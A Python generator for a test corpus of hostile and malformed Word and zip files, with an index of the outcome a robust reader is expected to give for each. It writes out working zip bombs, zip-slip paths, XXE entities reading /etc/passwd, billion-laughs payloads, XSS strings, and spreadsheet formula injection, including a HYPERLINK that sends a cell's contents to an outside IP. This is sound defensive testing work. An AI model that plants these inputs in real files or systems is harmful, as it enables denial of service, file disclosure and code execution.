"""Make hostile and odd input files, and their index with the expected outcome of each. Deterministic, no network, about 50 s.

    python make.py OUT_DIR     (wants reportlab, pikepdf, msoffcrypto-tool, openpyxl)

OUT_DIR is wiped first. It will hold FIFOs, links to /dev/zero and sparse files: never copy or archive it, make it anew.
index columns: path, group, what, expect (parse|parse_partial|reject|skip), must_see (texts split by |), must_not_see
 parse         a good reader returns every must_see text and none of must_not_see
 parse_partial a good reader returns what it can and names what it left out
 reject        one named error, no output
 skip          not an input at all (lock file, directory, FIFO ...): left alone or named, never opened blocking
"""
import os, io, csv, sys, zipfile, struct, zlib, random, stat, socket, shutil, hashlib, subprocess
R = os.path.abspath(sys.argv[1]); rnd = random.Random(20261122)
shutil.rmtree(R, ignore_errors=True); os.makedirs(R)
rows = []
def reg(path, what, expect, see='', nosee=''):
    rel = os.path.relpath(path, R) if isinstance(path, str) else path
    g = rel.split('/')[0] if isinstance(rel, str) else os.fsdecode(rel).split('/')[0]
    rows.append([rel, g, what, expect, see, nosee])
def P(g, n):
    os.makedirs(f'{R}/{g}', exist_ok=True); return f'{R}/{g}/{n}'
def put(g, n, data, what, expect, see='', nosee=''):
    p = P(g, n)
    with open(p, 'wb') as f: f.write(data)
    reg(p, what, expect, see, nosee); return p

# ---------- docx builder
NS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
      'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"')
CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
      '<Default Extension="png" ContentType="image/png"/><Default Extension="html" ContentType="text/html"/><Default Extension="bin" ContentType="application/octet-stream"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>%s</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
DR = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
RT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
WCT = 'application/vnd.openxmlformats-officedocument.wordprocessingml.%s+xml'
def esc(s): return s.replace('&', '&amp;').replace('<', '&lt;')
def r_(t): return f'<w:r><w:t xml:space="preserve">{esc(t)}</w:t></w:r>'
def p_(t=''): return f'<w:p>{r_(t)}</w:p>' if t else '<w:p/>'
def tc(x, pr=''): return f'<w:tc><w:tcPr>{pr}</w:tcPr>{x if x.startswith("<w:") else p_(x)}</w:tc>'
def tbl(rws, grid=None, pr=''):
    g = ''.join('<w:gridCol w:w="2000"/>' for _ in range(grid if grid is not None else max(len(r) for r in rws)))
    return f'<w:tbl><w:tblPr>{pr}</w:tblPr><w:tblGrid>{g}</w:tblGrid>' + ''.join('<w:tr>' + ''.join(c if c.startswith('<w:') else tc(c) for c in r) + '</w:tr>' for r in rws) + '</w:tbl>'
def doc(body, pre='<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'):
    return f'{pre}<w:document {NS}><w:body>{body}</w:body></w:document>'
def pkg(document, extra=None, rels='', ct='', order=None, method=zipfile.ZIP_DEFLATED, rootrels=RELS, types=None):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', method, compresslevel=9) as z:
        if types != '': z.writestr('[Content_Types].xml', types or CT % ct)
        if rootrels: z.writestr('_rels/.rels', rootrels)
        if document is not None: z.writestr('word/document.xml', document)
        if rels: z.writestr('word/_rels/document.xml.rels', DR % rels)
        for k, v in (extra or {}).items(): z.writestr(k, v)
    return b.getvalue()
def D(body, **k): return pkg(doc(body), **k)
def ovr(part, kind): return f'<Override PartName="/{part}" ContentType="{WCT % kind}"/>'
TITLE = '某区2026年重点工作任务分解表'
GOOD = D(p_(TITLE) + tbl([['序号', '工作任务', '牵头单位', '完成时限'], ['1', '完成老旧小区改造12个', '区住建局', '2026年9月底前'], ['2', '新增学位3000个', '区教育局', '2026年8月']]) + p_('附件结束'))
put('control', 'good.docx', GOOD, 'control: an ordinary work plan', 'parse', '完成老旧小区改造12个|区教育局|附件结束')

# ---------- A zip level
def stream_zip(path, parts, big):
    """parts: {name: bytes}; big: {name: iterator of bytes} written streaming"""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, compresslevel=9, allowZip64=True) as z:
        for k, v in parts.items(): z.writestr(k, v)
        for k, it in big.items():
            with z.open(k, 'w', force_zip64=True) as f:
                for c in it: f.write(c)
def rep(head, unit, total, tail):
    yield head.encode(); blk = unit.encode() * max(1, (1 << 20) // len(unit.encode()))
    n = total // len(blk)
    for _ in range(n): yield blk
    yield tail.encode()
H = doc('\0').split('\0'); G = 1 << 30
base = {'[Content_Types].xml': CT % '', '_rels/.rels': RELS}
p = P('zip', 'bomb_1gib_paragraphs.docx'); stream_zip(p, base, {'word/document.xml': rep(H[0], p_('一'), G, H[1])}); reg(p, 'document.xml inflates to 1 GiB of paragraphs', 'reject')
p = P('zip', 'bomb_1gib_one_text.docx'); stream_zip(p, base, {'word/document.xml': rep(H[0] + '<w:p><w:r><w:t>', 'A', G, '</w:t></w:r></w:p>' + H[1])}); reg(p, 'one text node of 1 GiB', 'reject')
p = P('zip', 'bomb_1gib_spaces.docx'); stream_zip(p, base, {'word/document.xml': rep(H[0] + p_('正文'), ' ', G, H[1])}); reg(p, '1 GiB of white space between elements', 'reject')
p = P('zip', 'bomb_1gib_media.docx'); stream_zip(p, {**base, 'word/document.xml': doc(p_('正文可读')), 'word/_rels/document.xml.rels': DR % f'<Relationship Id="rId9" Type="{RT}image" Target="media/image1.png"/>'}, {'word/media/image1.png': rep('', '\0', G, '')}); reg(p, 'text fine, an image part inflates to 1 GiB', 'parse_partial', '正文可读')
p = P('zip', 'bomb_4x700mib_media.docx'); stream_zip(p, {**base, 'word/document.xml': doc(p_('正文可读')), 'word/_rels/document.xml.rels': DR % ''.join(f'<Relationship Id="rId{i}" Type="{RT}image" Target="media/image{i}.png"/>' for i in range(4))}, {f'word/media/image{i}.png': rep('', '\0', 700 << 20, '') for i in range(4)}); reg(p, 'four image parts of 700 MiB each', 'parse_partial', '正文可读')
p = P('zip', 'bomb_100mib_paragraphs.docx'); stream_zip(p, base, {'word/document.xml': rep(H[0], p_('一二三四五六七八九十'), 100 << 20, H[1])}); reg(p, 'document.xml inflates to 100 MiB (under most absolute limits; ratio 250:1)', 'reject')
def nest(lvl, fan, leaf):
    d = leaf
    for i in range(lvl):
        b = io.BytesIO()
        with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            for k in range(fan): z.writestr(f'{k}.zip' if i else f'{k}.xml', d)
        d = b.getvalue()
    return d
n = nest(5, 10, b'\0' * (10 << 20))
put('zip', 'nested_42.zip', n, 'nested zip, 5 levels x 10 (about 1 TB when all unpacked)', 'reject')
put('zip', 'nested_42_inside.docx', pkg(doc(p_('正文可读')), {'word/embeddings/o.zip': n}), 'docx that embeds the nested zip', 'parse', '正文可读')
# quine-ish: a zip holding itself once per level, 200 levels
d = b'x'
for i in range(200):
    b = io.BytesIO(); z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED); z.writestr('a.docx', d); z.close(); d = b.getvalue()
put('zip', 'nested_200_deep.zip', d, 'zip in zip, 200 levels', 'reject')
# overlapping entries: many central entries, one local body
def overlap(n, body):
    c = zlib.compressobj(9, zlib.DEFLATED, -15); cd = c.compress(body) + c.flush(); crc = zlib.crc32(body)
    lf = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 33, crc, len(cd), len(body), 8, 0) + b'000.xml_'[:8] + cd
    o = io.BytesIO(GOOD); zi = zipfile.ZipFile(o).infolist()
    out = lf; cdir = b''
    for i in range(n):
        nm = b'%07x' % i + b'_'
        cdir += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8, 0, 33, crc, len(cd), len(body), len(nm), 0, 0, 0, 0, 0, 0) + nm
    return out + cdir + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, len(cdir), len(out), 0)
put('zip', 'overlapping_entries.docx', overlap(20000, b'\0' * (8 << 20)), '20,000 central entries over one 8 MiB body (160 GB claimed)', 'reject')
def patch_sizes(data, name, size):
    """lie about the uncompressed size of one member in both headers"""
    d = bytearray(data)
    for sig, off, nameoff, lenoff in ((b'PK\3\4', 22, 30, 26), (b'PK\1\2', 24, 46, 28)):
        i = 0
        while True:
            i = d.find(sig, i)
            if i < 0: break
            ln = struct.unpack_from('<H', d, i + lenoff)[0]
            if bytes(d[i + nameoff:i + nameoff + ln]) == name: struct.pack_into('<I', d, i + off, size)
            i += 4
    return bytes(d)
BIG = D(p_('一') * 2_000_000)
put('zip', 'lying_size_small.docx', patch_sizes(BIG, b'word/document.xml', 500), 'headers say 500 bytes, the member inflates to 80 MB', 'reject')
put('zip', 'lying_size_huge.docx', patch_sizes(GOOD, b'word/document.xml', 0xFFFFFFF0), 'headers say 4 GiB, the member is 2 KB', 'parse_partial')
b = io.BytesIO()
with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
    for nm, v in [('[Content_Types].xml', CT % ''), ('_rels/.rels', RELS), ('word/document.xml', doc(p_('正文可读')))]: z.writestr(nm, v)
    for nm in ['../../../../../../tmp/badinputs_evil.txt', '/tmp/badinputs_evil_abs.txt', '..\\..\\evil_win.txt', 'C:\\evil.txt', 'word/../../evil2.txt']:
        zi = zipfile.ZipInfo('x'); zi.filename = nm; z.writestr(zi, 'evil')
put('zip', 'zip_slip.docx', b.getvalue(), 'member names with ../ and absolute paths', 'parse', '正文可读')
b = io.BytesIO()
with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
    import warnings; warnings.simplefilter('ignore')
    for nm, v in [('[Content_Types].xml', CT % ''), ('_rels/.rels', RELS), ('word/document.xml', doc(p_('第一份正文'))), ('word/document.xml', doc(p_('第二份正文')))]: z.writestr(nm, v)
put('zip', 'duplicate_names.docx', b.getvalue(), 'two word/document.xml members with different text (readers differ)', 'reject')
put('zip', 'case_names.docx', pkg(None, {'Word/Document.xml': doc(p_('正文可读'))}), 'part name differs in case from the relationship', 'parse_partial', '正文可读')
put('zip', 'backslash_names.docx', GOOD.replace(b'word/document.xml', b'word\\document.xml'), 'backslash in member names (some old writers)', 'parse_partial')
for pc in (10, 50, 90, 99): put('zip', f'truncated_{pc}.docx', GOOD[:len(GOOD) * pc // 100], f'cut at {pc} %', 'reject')
put('zip', 'junk_prefix.docx', b'MZ' + rnd.randbytes(5000) + GOOD, '5 KB of junk before the zip', 'parse_partial', '区教育局')
put('zip', 'junk_suffix.docx', GOOD + rnd.randbytes(70000), '70 KB of junk after the zip', 'reject')
def flip(data, k, lo=0, hi=None):
    d = bytearray(data); rr = random.Random(k); hi = hi or len(d)
    for _ in range(20): d[rr.randrange(lo, hi)] ^= 1 << rr.randrange(8)
    return bytes(d)
for k in range(20): put('zip', f'bitflip_{k:02d}.docx', flip(GOOD, k), '20 random bits flipped (seed kept)', 'parse_partial')
d = bytearray(GOOD); 
for sig, o in ((b'PK\3\4', 6), (b'PK\1\2', 8)):
    i = 0
    while (i := d.find(sig, i)) >= 0: struct.pack_into('<H', d, i + o, struct.unpack_from('<H', d, i + o)[0] | 1); i += 4
put('zip', 'zipcrypto_flag.docx', bytes(d), 'members flagged as zip-encrypted', 'reject')
put('zip', 'lzma.docx', pkg(doc(p_('正文可读')), method=zipfile.ZIP_LZMA), 'members compressed with LZMA (legal zip, not OPC)', 'parse_partial', '正文可读')
d = bytearray(GOOD)
for sig, o in ((b'PK\3\4', 8), (b'PK\1\2', 10)):
    i = 0
    while (i := d.find(sig, i)) >= 0: struct.pack_into('<H', d, i + o, 97); i += 4
put('zip', 'unknown_method.docx', bytes(d), 'unknown compression method 97', 'reject')
put('zip', 'eocd_only.docx', b'PK\5\6' + b'\0' * 18, 'an empty zip', 'reject')
put('zip', 'no_content_types.docx', pkg(doc(p_('x')), types=''), 'no [Content_Types].xml', 'reject')
put('zip', 'no_root_rels.docx', pkg(doc(p_('x')), rootrels=''), 'no _rels/.rels', 'reject')
put('zip', 'no_document.docx', pkg(None), 'no word/document.xml', 'reject')
put('zip', 'rel_null_image.docx', D(p_('正文可读'), rels=f'<Relationship Id="rId5" Type="{RT}image" Target="NULL"/>'), 'image relationship to "NULL" (common in real files)', 'parse', '正文可读')
put('zip', 'rel_dotdot_null.docx', D(p_('正文可读'), rels=f'<Relationship Id="rId5" Type="{RT}image" Target="../NULL"/>'), 'image relationship to "../NULL" (common in real files)', 'parse', '正文可读')
put('zip', 'rel_missing_header.docx', D(p_('正文可读') + '<w:sectPr><w:headerReference w:type="default" r:id="rId77"/></w:sectPr>'), 'header reference without relationship', 'parse', '正文可读')
put('zip', 'rel_external.docx', D(p_('正文可读'), rels=f'<Relationship Id="rId5" Type="{RT}image" Target="http://192.0.2.1/x.png" TargetMode="External"/><Relationship Id="rId6" Type="{RT}attachedTemplate" Target="file:///etc/passwd" TargetMode="External"/>'), 'external image and template (must not be fetched)', 'parse', '正文可读')
put('zip', 'rel_bad_uri.docx', D(p_('正文可读'), rels=f'<Relationship Id="rId5" Type="{RT}hyperlink" Target="http://[bad" TargetMode="External"/><Relationship Id="rId6" Type="{RT}image" Target="\\\\srv\\x y.png" TargetMode="External"/>'), 'ill-formed URIs in relationships', 'parse', '正文可读')
put('zip', 'many_parts_50k.docx', pkg(doc(p_('正文可读')), {f'customXml/item{i}.xml': '<a/>' for i in range(50000)}), '50,000 members', 'reject')
put('zip', 'many_rels_20k.docx', pkg(doc(p_('正文可读')), {f'word/media/i{i}.png': b'\x89PNG' for i in range(20000)}, rels=''.join(f'<Relationship Id="r{i}" Type="{RT}image" Target="media/i{i}.png"/>' for i in range(20000))), '20,000 image parts with relationships', 'reject')
put('zip', 'part_cycle.docx', pkg(doc(p_('正文可读')), {'word/a.xml': '<a/>', 'word/_rels/a.xml.rels': DR % f'<Relationship Id="r1" Type="{RT}x" Target="document.xml"/><Relationship Id="r2" Type="{RT}x" Target="a.xml"/>'}, rels=f'<Relationship Id="r1" Type="{RT}x" Target="a.xml"/>'), 'relationship cycle between parts', 'parse', '正文可读')

# ---------- B xml level
def X(n, xml, what, expect, see='', nosee=''): put('xml', n, pkg(xml), what, expect, see, nosee)
lol = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">' + ''.join(f'<!ENTITY {chr(98+i)} "{("&" + chr(97+i) + ";") * 10}">' for i in range(9)) + ']>'
pre = '<?xml version="1.0" encoding="UTF-8"?>'
X('billion_laughs.docx', doc('<w:p><w:r><w:t>正文&j;</w:t></w:r></w:p>', pre + lol), 'billion laughs in document.xml', 'reject', '', '哈哈')
X('quadratic_blowup.docx', doc('<w:p><w:r><w:t>' + '&a;' * 50000 + '</w:t></w:r></w:p>', pre + f'<!DOCTYPE x [<!ENTITY a "{"A" * 50000}">]>'), 'quadratic entity blow-up (2.5 GB)', 'reject', '', 'AAAA')
X('xxe_passwd.docx', doc('<w:p><w:r><w:t>正文&x;</w:t></w:r></w:p>', pre + '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 'external entity file:///etc/passwd', 'reject', '', 'root:')
X('xxe_http.docx', doc('<w:p><w:r><w:t>正文&x;</w:t></w:r></w:p>', pre + '<!DOCTYPE x [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>'), 'external entity over http', 'reject')
X('xxe_dev_random.docx', doc('<w:p><w:r><w:t>正文&x;</w:t></w:r></w:p>', pre + '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///dev/zero">]>'), 'external entity file:///dev/zero', 'reject')
X('xxe_param_dtd.docx', doc(p_('正文'), pre + '<!DOCTYPE x SYSTEM "file:///etc/passwd" [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>'), 'external DTD and parameter entity', 'reject', '', 'root:')
put('xml', 'xxe_in_rels.docx', pkg(doc(p_('x')), rootrels=pre + '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + RELS.split('?>', 1)[1].replace('word/document.xml', '&x;')), 'external entity in _rels/.rels', 'reject', '', 'root:')
put('xml', 'lol_in_styles.docx', pkg(doc(p_('正文可读')), {'word/styles.xml': pre + lol + f'<w:styles {NS}><w:style w:type="paragraph" w:styleId="a"><w:name w:val="&j;"/></w:style></w:styles>'}, rels=f'<Relationship Id="r1" Type="{RT}styles" Target="styles.xml"/>', ct=ovr('word/styles.xml', 'styles')), 'billion laughs in styles.xml', 'reject')
X('internal_entity_ok.docx', doc('<w:p><w:r><w:t>甲&b;丙</w:t></w:r></w:p>', pre + '<!DOCTYPE x [<!ENTITY b "乙">]>'), 'one harmless internal entity (text would be lost silently with resolve_entities=False)', 'reject')
X('deep_100k.docx', doc('<w:smartTag>' * 100000 + p_('底') + '</w:smartTag>' * 100000), '100,000 nested elements', 'reject')
X('deep_240.docx', doc('<w:sdt><w:sdtContent>' * 110 + p_('底层文字') + '</w:sdtContent></w:sdt>' * 110), '220 nested elements (under libxml2 limit of 256)', 'parse', '底层文字')
X('deep_300.docx', doc('<w:sdt><w:sdtContent>' * 150 + p_('底层文字') + '</w:sdtContent></w:sdt>' * 150), '300 nested elements (over libxml2 default 256)', 'parse_partial', '底层文字')
X('nul_byte.docx', doc(p_('甲')).encode().replace('甲'.encode(), b'a\0b'), 'NUL byte in document.xml', 'reject')
X('char_ref_nul.docx', doc('<w:p><w:r><w:t>甲&#0;乙</w:t></w:r></w:p>'), 'character reference &#0;', 'reject')
X('char_ref_ctrl.docx', doc('<w:p><w:r><w:t>甲&#x1F;乙</w:t></w:r></w:p>'), 'control character reference', 'reject')
X('surrogate_ref.docx', doc('<w:p><w:r><w:t>甲&#xD800;乙</w:t></w:r></w:p>'), 'lone surrogate reference', 'reject')
X('cesu8.docx', doc(p_('甲')).encode().replace('甲'.encode(), b'\xed\xa0\xbd\xed\xb8\x80'), 'CESU-8 surrogate bytes', 'reject')
X('bad_utf8.docx', doc(p_('甲')).encode().replace('甲'.encode(), b'\xff\xfe\xc0'), 'bytes that are no UTF-8', 'reject')
X('utf16.docx', doc(p_('正文可读'), '<?xml version="1.0" encoding="UTF-16"?>').encode('utf-16'), 'document.xml in UTF-16 (legal)', 'parse', '正文可读')
X('gb18030_decl.docx', doc(p_('正文可读㐀𠮷'), '<?xml version="1.0" encoding="GB18030"?>').encode('gb18030'), 'document.xml in GB18030 (legal XML, not OPC)', 'parse_partial', '正文可读')
X('gbk_says_utf8.docx', doc(p_('正文可读'), '<?xml version="1.0" encoding="UTF-8"?>').encode('gbk'), 'says UTF-8, is GBK', 'reject')
X('bom.docx', '\ufeff'.encode() + doc(p_('正文可读')).encode(), 'UTF-8 BOM', 'parse', '正文可读')
X('leading_space.docx', b'\n  ' + doc(p_('正文')).encode(), 'white space before the XML declaration', 'reject')
X('huge_attr_20mb.docx', doc(f'<w:p w:rsidR="{"A" * (20 << 20)}">{r_("x")}</w:p>'), '20 MB attribute', 'reject')
X('many_attrs_200k.docx', doc('<w:p ' + ' '.join(f'w:a{i}="1"' for i in range(200000)) + '/>'), '200,000 attributes on one element', 'reject')
X('many_ns_20k.docx', doc(''.join(f'<w:p xmlns:n{i}="u:{i}"/>' for i in range(20000))), '20,000 namespaces', 'reject')
X('comment_pi_in_text.docx', doc('<w:p><w:r><w:t>前<!-- c -->中<?pi x?>后文</w:t></w:r></w:p>'), 'comment and PI inside w:t (text after them is easily lost)', 'parse', '前中后文')
X('cdata.docx', doc('<w:p><w:r><w:t><![CDATA[正文<可读>]]></w:t></w:r></w:p>'), 'CDATA', 'parse', '正文<可读>')
X('empty_xml.docx', b'', 'document.xml of zero bytes', 'reject')
X('html_as_document.docx', b'<html><body>x</body></html>', 'document.xml is HTML', 'reject')
X('unclosed.docx', doc(p_('x'))[:-20], 'XML cut short inside a whole zip', 'reject')
X('no_body.docx', f'{pre}<w:document {NS}/>', 'no w:body', 'reject')
X('empty_body.docx', doc(''), 'empty body', 'parse')
strict = doc(p_('正文可读')).replace('http://schemas.openxmlformats.org/wordprocessingml/2006/main', 'http://purl.oclc.org/ooxml/wordprocessingml/main').replace('http://schemas.openxmlformats.org/officeDocument/2006/relationships', 'http://purl.oclc.org/ooxml/officeDocument/relationships')
put('xml', 'strict_ooxml.docx', pkg(strict, rootrels=RELS.replace('http://schemas.openxmlformats.org/officeDocument/2006/relationships', 'http://purl.oclc.org/ooxml/officeDocument/relationships')), 'Strict OOXML namespaces (ISO/IEC 29500 Strict)', 'parse', '正文可读')
put('xml', 'other_prefix.docx', pkg(doc(p_('正文可读')).replace('w:', 'ns0:').replace('xmlns:ns0:', 'xmlns:').replace('xmlns:w=', 'xmlns:ns0=')), 'another prefix for the w namespace', 'parse', '正文可读')

# ---------- C structure
def S(n, body, what, expect, see='', nosee='', **k): put('structure', n, D(body, **k), what, expect, see, nosee)
S('table_200k_rows.docx', tbl([['序号', '任务']] + [[str(i), f'任务{i}'] for i in range(200000)]), 'a table of 200,000 rows', 'parse_partial', '任务199999')
S('table_20k_rows.docx', tbl([['序号', '任务']] + [[str(i), f'任务{i}'] for i in range(20000)]), 'a table of 20,000 rows', 'parse', '任务19999')
S('table_2000_cols.docx', tbl([[f'列{i}' for i in range(2000)] for _ in range(20)]), 'a table of 2,000 columns', 'parse', '列1999')
for nm, v in (('1e9', '1000000000'), ('int32', '2147483647'), ('neg', '-5'), ('zero', '0'), ('float', '2.5'), ('text', 'abc'), ('big', '9' * 30)):
    S(f'gridspan_{nm}.docx', p_('正文可读') + tbl([[tc('甲单元格', f'<w:gridSpan w:val="{v}"/>'), '乙'], ['丙', '丁']]), f'gridSpan = {v[:12]}', 'parse', '正文可读|甲单元格|丁')
S('gridbefore_1e9.docx', tbl([['甲', '乙']]).replace('<w:tr>', '<w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>'), 'gridBefore = 1e9', 'parse', '甲|乙')
S('gridspan_sum_mismatch.docx', tbl([[tc('甲', '<w:gridSpan w:val="3"/>'), '乙'], ['丙', '丁'], ['戊', '己', '庚', '辛', '壬']], grid=2), 'row spans do not add up to tblGrid', 'parse', '甲|乙|丁|壬')
S('vmerge_no_restart.docx', tbl([['甲', tc('乙', '<w:vMerge/>')], ['丙', tc('丁', '<w:vMerge/>')]]), 'vMerge continue with no restart above', 'parse', '甲|丙')
S('vmerge_shifted.docx', tbl([[tc('甲', '<w:vMerge w:val="restart"/>'), '乙'], [tc('跨', '<w:gridSpan w:val="2"/><w:vMerge/>')]]), 'vMerge over cells of another width', 'parse', '甲|乙')
S('vmerge_text_hidden.docx', tbl([[tc('可见', '<w:vMerge w:val="restart"/>'), '乙'], [tc('被合并藏起的文字', '<w:vMerge/>'), '丁']]), 'text in a continued vMerge cell (Word hides it)', 'parse', '可见|丁')
S('hmerge.docx', tbl([[tc('甲', '<w:hMerge w:val="restart"/>'), tc('', '<w:hMerge/>') , '丙'], ['丁', '戊', '己']]), 'old-style hMerge', 'parse', '甲|丙|己')
S('row_no_cells.docx', tbl([['甲', '乙'], [], ['丙', '丁']]), 'row without cells', 'parse', '甲|丁')
S('cell_no_para.docx', tbl([['<w:tc/>', '乙']], grid=2), 'cell without a paragraph', 'parse', '乙')
S('no_tblgrid.docx', '<w:tbl><w:tr>' + tc('甲') + tc('乙') + '</w:tr></w:tbl>', 'table without tblPr and tblGrid', 'parse', '甲|乙')
def nestt(k):
    x = p_('最里层')
    for i in range(k): x = tbl([['<w:tc>' + (p_('层') if i % 50 == 0 else '') + x + p_() + '</w:tc>']], grid=1)
    return x
S('nested_tables_50.docx', nestt(50), 'tables nested 50 levels (200 XML levels)', 'parse', '最里层')
S('nested_tables_500.docx', nestt(500), 'tables nested 500 levels (1,500 XML levels)', 'reject')
S('para_10mb.docx', p_('字' * 3_400_000), 'one paragraph of 10 MB in one run (over libxml2 10 MB text limit: at the edge)', 'parse_partial')
S('para_9mb.docx', p_('字' * 3_000_000), 'one paragraph of 9 MB in one run', 'parse', '字字字')
S('para_200k_runs.docx', '<w:p>' + ''.join(r_('字') for _ in range(200000)) + '</w:p>', 'one paragraph of 200,000 runs', 'parse', '字字字')
S('paras_300k.docx', p_('一段文字') * 300000, '300,000 paragraphs', 'parse_partial', '一段文字')
S('style_cycle.docx', '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr>' + r_('正文可读') + '</w:p>', 'basedOn cycle in styles', 'parse', '正文可读', extra={'word/styles.xml': f'<w:styles {NS}><w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>'}, rels=f'<Relationship Id="r1" Type="{RT}styles" Target="styles.xml"/>', ct=ovr('word/styles.xml', 'styles'))
S('style_missing.docx', '<w:p><w:pPr><w:pStyle w:val="NoSuch"/></w:pPr>' + r_('正文可读') + '</w:p>', 'style id that does not exist, no styles part', 'parse', '正文可读')
S('formula_cells.docx', tbl([['任务', '单位'], ["=cmd|'/C calc'!A0", '+1+1'], ['-2+3', '@SUM(1)'], ['\t=1', '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'], ['＝1+1', '%0A=1']]), 'cells that a spreadsheet would run', 'parse', "=cmd|")
S('xss_cells.docx', p_('<script>alert(1)</script>') + tbl([['<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>'], ['javascript:alert(1)', '</td></tr></table><script>1</script>']]), 'cells that a report page would run', 'parse', 'alert(1)')
S('csv_breakers.docx', tbl([['含"引号"', '含,逗号'], ['含\n换行', '含\r回车'], ['含\u2028分行', '含\u0085下一行'], ['NULL', 'NA'], ['007', '1e5'], ['2026-13-45', '1/2']]), 'values that break CSV quoting, null or type inference', 'parse', '含"引号"|007|NULL|1e5')
S('unicode_odd.docx', p_('零宽\u200b空格\u200d连\ufeff接') + p_('私用\ue000区\U000f0000') + p_('兼容\uf9a8令\u2f08人') + p_('全角１２３％') + p_('右左\u202e反转\u202c') + p_('扩展𠮷𪚥') + p_('变体\u8fbb\U000e0101') + p_('组合e\u0301') + p_('非字符\ufdd0'), 'zero width, private use, compatibility, bidi, astral, variation', 'parse', '𠮷𪚥|１２３')

# ---------- D text that readers miss
def M(n, body, what, see='', nosee='', expect='parse', **k): put('missed', n, D(p_('正文开始') + body + p_('正文结束'), **k), what, expect, '正文结束' + ('|' + see if see else ''), nosee)
M('ins_del.docx', '<w:p>' + r_('甲') + '<w:ins w:id="1" w:author="a">' + r_('插入文字') + '</w:ins><w:del w:id="2" w:author="a"><w:r><w:delText>删除文字</w:delText></w:r></w:del>' + r_('乙') + '</w:p>', 'tracked insertion and deletion', '插入文字', '删除文字')
M('ins_paragraph_row.docx', '<w:ins w:id="3" w:author="a">' + p_('整段插入') + '</w:ins>' + tbl([['甲', '乙'], ['删行', '删行2']]).replace('<w:tr>' + tc('删行'), '<w:tr><w:trPr><w:del w:id="4" w:author="a"/></w:trPr>' + tc('删行')), 'a whole paragraph inserted, a whole row deleted', '整段插入', '删行2')
M('move.docx', '<w:p><w:moveFrom w:id="1" w:author="a">' + r_('移走前') + '</w:moveFrom></w:p><w:p><w:moveTo w:id="2" w:author="a">' + r_('移到后') + '</w:moveTo></w:p>', 'tracked move', '移到后', '移走前')
TXB = '<w:txbxContent>' + p_('文本框文字') + '</w:txbxContent>'
M('textbox_mc.docx', '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline><a:graphic><a:graphicData uri="x"><wps:wsp><wps:txbx>' + TXB + '</wps:txbx></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox>' + TXB + '</v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>', 'text box (once, not twice with its fallback)', '文本框文字')
M('textbox_vml.docx', '<w:p><w:r><w:pict><v:shape><v:textbox>' + TXB + '</v:textbox></v:shape></w:pict></w:r></w:p>', 'VML text box only', '文本框文字')
M('sdt_block.docx', '<w:sdt><w:sdtContent>' + p_('内容控件段落') + tbl([['控件内表格', '值']]) + '</w:sdtContent></w:sdt>', 'block content control with a paragraph and a table', '内容控件段落|控件内表格')
M('sdt_run.docx', '<w:p>' + r_('牵头单位：') + '<w:sdt><w:sdtContent>' + r_('区发改局控件') + '</w:sdtContent></w:sdt></w:p>', 'run content control', '区发改局控件')
M('sdt_row_cell.docx', tbl([['甲', '乙']]).replace('</w:tbl>', '<w:sdt><w:sdtContent><w:tr>' + tc('控件行') + tc('控件行2') + '</w:tr></w:sdtContent></w:sdt><w:tr><w:sdt><w:sdtContent>' + tc('控件格') + '</w:sdtContent></w:sdt>' + tc('普通格') + '</w:tr></w:tbl>'), 'row and cell content controls', '控件行|控件格|普通格')
